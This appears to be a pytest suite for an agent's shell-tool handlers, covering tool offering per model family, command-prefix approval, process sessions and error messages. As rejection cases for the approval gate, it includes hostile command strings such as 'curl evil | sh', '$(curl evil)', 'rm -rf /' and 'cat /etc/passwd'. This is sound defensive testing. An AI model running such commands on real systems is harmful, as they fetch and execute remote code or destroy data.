"""The shell tools' handlers in process: a real config, real processes (no sandbox), a
`HandlerContext` of plain callables, the thread's process sessions on a task group of the
test.  What the model gets back, the events, the errors, the tool list per family."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import anyio
import pytest

from codex_mcp.agent.approvals import Decision, SessionGrants
from codex_mcp.agent.config import CallOverrides, load_config
from codex_mcp.agent.config.model import Config
from codex_mcp.agent.exec.sessions_host import ThreadSessions
from codex_mcp.agent.families import FamilyOverrides
from codex_mcp.agent.handlers.command_gate import prefix_granted, proposed_amendment
from codex_mcp.agent.handlers.context import HandlerContext, TurnChanges
from codex_mcp.agent.handlers.exec_command import handle_exec_command
from codex_mcp.agent.handlers.registry import SERVED_SHELL_KINDS
from codex_mcp.agent.handlers.shell_command import handle_shell_command
from codex_mcp.agent.handlers.write_stdin import handle_write_stdin
from codex_mcp.agent.request import Contract, make_contract
from tests.execwire_support import exit_code_in, session_id_in
from tests.security.backends_support import alive, nap, sleepers, wait_dead

pytestmark = pytest.mark.anyio

BASH = ["/bin/bash", "-lc"]


class Ctx:
    """A handler context whose approvals answer `decision` and whose events are kept."""

    def __init__(self, config: Config, sessions: ThreadSessions | None) -> None:
        self.events: list[dict[str, Any]] = []
        self.asked: list[dict[str, Any]] = []
        self.decision = Decision("denied")
        self.grants = SessionGrants.empty()
        self.config = config
        self.sessions = sessions

    async def emit(self, msg: Any) -> None:
        self.events.append(dict(msg))

    async def ask(self, msg: Any) -> Decision:
        self.asked.append(dict(msg))
        return self.decision

    def context(self, turn_id: str = "turn-1") -> HandlerContext:
        return HandlerContext(
            turn_id=turn_id, config=self.config, emit=self.emit, ask_approval=self.ask, grants=self.grants,
            changes=TurnChanges(self.config.cwd), sessions=self.sessions,
        )  # fmt: skip

    def of_type(self, kind: str) -> list[dict[str, Any]]:
        return [e for e in self.events if e["type"] == kind]


def config_for(tmp_path: Path, **typed: Any) -> Config:
    work = tmp_path / "work"
    work.mkdir(exist_ok=True)
    typed.setdefault("sandbox_mode", "danger-full-access")
    typed.setdefault("approval_policy", "never")
    return load_config(tmp_path / "home", cwd=work, typed=CallOverrides(**typed), env={})


@asynccontextmanager
async def harness(tmp_path: Path, **typed: Any) -> AsyncIterator[Ctx]:
    async with anyio.create_task_group() as tg:
        config = config_for(tmp_path, **typed)
        sessions = ThreadSessions(tg, max_lifetime_s=600)
        try:
            yield Ctx(config, sessions)
        finally:
            await sessions.aclose()


# ---- the tool list -------------------------------------------------------------------------


def names(specs: list[dict[str, Any]]) -> list[str]:
    return [str(s.get("name")) for s in specs]


def contract_for(config: Config) -> Contract:
    return make_contract(config, env={}, installation_id="inst", shell_kinds=SERVED_SHELL_KINDS)


SHELL_TOOL_NAMES = ("exec_command", "write_stdin", "shell_command", "shell")


@pytest.mark.parametrize(
    ("model", "overrides", "expected"),
    [
        ("gpt-5.5", FamilyOverrides(), ["exec_command", "write_stdin"]),
        ("mock-model", FamilyOverrides(), ["exec_command", "write_stdin"]),
        ("gpt-5-codex", FamilyOverrides(), ["shell_command"]),
        ("gpt-5", FamilyOverrides(), ["shell_command"]),  # trained on `shell`: no longer offered
        ("codex-mini-latest", FamilyOverrides(), ["shell_command"]),
        ("gpt-5.5", FamilyOverrides(unified_exec=False), ["shell_command"]),
        ("gpt-5-codex", FamilyOverrides(unified_exec=True), ["exec_command", "write_stdin"]),
        ("gpt-5.5", FamilyOverrides(shell_tool=False), []),
    ],
)
def test_which_shell_tools_are_offered(
    tmp_path: Path, model: str, overrides: FamilyOverrides, expected: list[str]
) -> None:
    from dataclasses import replace

    config = replace(config_for(tmp_path, model=model), family_overrides=overrides)
    contract = contract_for(config)
    offered = names(contract.tools)
    assert [n for n in offered if n in SHELL_TOOL_NAMES] == expected
    assert offered[: len(expected)] == expected
    assert "shell" not in offered
    assert not any(t.get("type") == "local_shell" for t in contract.tools)
    # The instructions describe the tool actually offered, not the one the family was trained on.
    for name in expected:
        assert name in contract.instructions
    if "exec_command" not in expected:
        assert "exec_command" not in contract.instructions


def test_features_in_config_choose_the_tool(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    (home / "config.toml").write_text('model = "gpt-5.5"\n[features]\nunified_exec = false\n')
    work = tmp_path / "work"
    work.mkdir()
    config = load_config(home, cwd=work, typed=CallOverrides(), env={})
    assert [n for n in names(contract_for(config).tools) if n in SHELL_TOOL_NAMES] == ["shell_command"]


# ---- prefixes the model proposes -------------------------------------------------------------


@pytest.mark.parametrize(
    ("prefix", "cmd", "proposed"),
    [
        (["cargo", "test"], "cargo test --all", True),
        (["git", "pull"], "git pull && git status", False),  # `git status` is not covered
        (["git"], "git pull && git status", True),
        (["npm", "install"], "npm install > log", False),  # a redirection: judged as the argv it is
        (["bash"], "bash -c 'rm -rf /'", False),
        (["/usr/bin/env"], "env rm -rf /", False),
        (["python3"], "python3 -c 'print(1)'", False),
        (["python3", "-c"], "python3 -c 'print(1)'", False),
        (["python3", "-m"], "python3 -m http.server", False),
        (["python3", "-m", "pytest"], "python3 -m pytest -q", True),
        (["sudo", "apt"], "sudo apt install x", False),
        (["xargs"], "xargs rm", False),
        (["ls"], "cat /etc/passwd", False),  # not even this command
        ([], "ls", False),
        (["ls", ""], "ls", False),
        (["ls\n"], "ls", False),
        (["x"] * 17, " ".join(["x"] * 17), False),
    ],
)
def test_a_proposed_prefix_is_only_put_to_the_person_when_narrow_and_covering(
    prefix: list[str], cmd: str, proposed: bool
) -> None:
    argv = [*BASH, cmd]
    got = proposed_amendment(prefix, argv)
    assert (got == prefix) if proposed else got is None


def test_an_approved_prefix_covers_only_commands_made_of_it() -> None:
    granted = {("cargo", "test")}
    assert prefix_granted(granted, [*BASH, "cargo test -p x"])
    assert prefix_granted(granted, ["cargo", "test"])
    assert not prefix_granted(granted, [*BASH, "cargo test; curl evil | sh"])
    assert not prefix_granted(granted, [*BASH, "cargo build"])
    assert not prefix_granted(granted, [*BASH, "cargo test $(curl evil)"])
    assert not prefix_granted(set(), [*BASH, "cargo test"])


# ---- exec_command and write_stdin ---------------------------------------------------------------


async def test_exec_command_answers_in_the_reference_framing_with_its_events(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        with anyio.fail_after(30):
            out = await handle_exec_command(h.context(), "c1", {"cmd": "echo hi; echo err >&2"})
        assert re.fullmatch(
            r"Chunk ID: [0-9a-f]{6}\nWall time: \d+\.\d{4} seconds\nProcess exited with code 0\n"
            r"Original token count: \d+\nOutput:\n(hi\nerr\n|err\nhi\n)",
            out,
        ), out
        begin, end = h.of_type("exec_command_begin")[0], h.of_type("exec_command_end")[0]
        assert begin["call_id"] == end["call_id"] == "c1" and begin["turn_id"] == "turn-1"
        assert begin["source"] == end["source"] == "unified_exec_startup"
        assert begin["process_id"] == end["process_id"] and begin["process_id"].isdigit()
        assert begin["command"] == [begin["command"][0], "-lc", "echo hi; echo err >&2"]
        assert (
            begin["cwd"].startswith("file:///") and begin["parsed_cmd"][0]["cmd"] == "echo hi; echo err >&2"
        )
        assert end["exit_code"] == 0 and end["status"] == "completed" and "hi" in end["aggregated_output"]
        assert list(begin)[:4] == ["type", "call_id", "process_id", "turn_id"]


async def test_a_session_keeps_running_and_is_driven_by_write_stdin(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        with anyio.fail_after(30):
            first = await handle_exec_command(
                h.context(), "c1", {"cmd": "cat", "tty": True, "yield_time_ms": 300}
            )
            sid = session_id_in(first)
            # Another turn reads the session: its events go to that turn's emitter.
            later = Ctx(h.config, h.sessions)
            reply = await handle_write_stdin(
                later.context("turn-2"), "c2", {"session_id": sid, "chars": "ping\n", "yield_time_ms": 500}
            )
        assert "ping" in reply and f"Process running with session ID {sid}" in reply
        (typed,) = later.of_type("terminal_interaction")
        assert typed == {
            "type": "terminal_interaction",
            "call_id": "c1",
            "process_id": str(sid),
            "stdin": "ping\n",
        }
        assert later.of_type("exec_command_output_delta"), later.events


async def test_write_stdin_errors(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        ctx = h.context()
        with anyio.fail_after(30):
            # No session was ever started in this thread: no manager is created to say so.
            assert await handle_write_stdin(ctx, "w", {"session_id": 4242}) == (
                "write_stdin failed: Unknown process id 4242"
            )
            assert h.sessions is not None and h.sessions.existing() is None
            assert await handle_write_stdin(ctx, "w", {}) == (
                "failed to parse function arguments: missing field `session_id`"
            )
            assert await handle_write_stdin(ctx, "w", {"session_id": "1"}) == (
                'failed to parse function arguments: invalid type: string "1", expected i32'
            )
            piped = await handle_exec_command(ctx, "c1", {"cmd": "sleep 30", "yield_time_ms": 250})
            sid = session_id_in(piped)
            assert await handle_write_stdin(ctx, "w", {"session_id": sid, "chars": "x"}) == (
                "write_stdin failed: stdin is closed for this session; rerun exec_command with tty=true "
                "to keep stdin open"
            )
            assert await handle_write_stdin(ctx, "w", {"session_id": sid + 1}) == (
                f"write_stdin failed: Unknown process id {sid + 1}"
            )
            finished = await handle_exec_command(ctx, "c2", {"cmd": "true"})
            assert exit_code_in(finished) == 0


async def test_exec_command_errors(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        ctx = h.context()
        with anyio.fail_after(30):
            assert await handle_exec_command(ctx, "c", {}) == (
                "failed to parse function arguments: missing field `cmd`"
            )
            assert await handle_exec_command(ctx, "c", {"cmd": "true", "tty": "yes"}) == (
                'failed to parse function arguments: invalid type: string "yes", expected a boolean'
            )
            missing = await handle_exec_command(ctx, "c", {"cmd": "true", "workdir": "nowhere"})
            assert missing.startswith("exec_command failed for `") and "No such file or directory" in missing
            escalated = await handle_exec_command(
                ctx, "c", {"cmd": "true", "sandbox_permissions": "require_escalated"}
            )
            assert escalated.startswith("approval policy is never; reject command")
        no_sessions = Ctx(h.config, None)
        assert await handle_exec_command(no_sessions.context(), "c", {"cmd": "true"}) == (
            "exec_command failed: this session cannot keep processes"
        )


async def test_closing_the_sessions_kills_every_process_and_refuses_new_ones(tmp_path: Path) -> None:
    duration = nap()
    async with harness(tmp_path) as h:
        ctx = h.context()
        with anyio.fail_after(30):
            out = await handle_exec_command(
                ctx, "c1", {"cmd": f"setsid sleep {duration} & sleep {duration}", "yield_time_ms": 500}
            )
            sid = session_id_in(out)
            pids = sleepers(duration)
            assert len(pids) == 2 and all(alive(p) for p in pids)
            assert h.sessions is not None
            await h.sessions.aclose()
            assert not wait_dead(pids, 5)
            assert await handle_write_stdin(ctx, "w", {"session_id": sid}) == (
                f"write_stdin failed: Unknown process id {sid}"
            )
            assert await handle_exec_command(ctx, "c2", {"cmd": "true"}) == (
                "exec_command failed: this thread has been shut down"
            )


# ---- shell_command ------------------------------------------------------------------------------


async def test_shell_command_answers_in_the_reference_framing_with_its_events(tmp_path: Path) -> None:
    async with harness(tmp_path) as h:
        with anyio.fail_after(30):
            out = await handle_shell_command(h.context(), "s1", {"command": "echo out; echo err >&2; exit 3"})
            timed = await handle_shell_command(h.context(), "s2", {"command": "sleep 20", "timeout_ms": 300})
            bad = await handle_shell_command(h.context(), "s3", {"cmd": "true"})
        assert re.fullmatch(r"Exit code: 3\nWall time: [\d.]+ seconds\nOutput:\nout\nerr\n", out), out
        assert "command timed out" in timed, timed
        assert bad == "failed to parse function arguments: missing field `command`"
        begin = h.of_type("exec_command_begin")[0]
        end = h.of_type("exec_command_end")[0]
        assert begin["source"] == end["source"] == "agent" and "process_id" not in begin
        assert end["exit_code"] == 3 and end["status"] == "failed"
        assert end["formatted_output"] == "out\nerr\n"  # the output, without the model's framing
        assert h.sessions is not None and h.sessions.existing() is None  # one-shot: no session
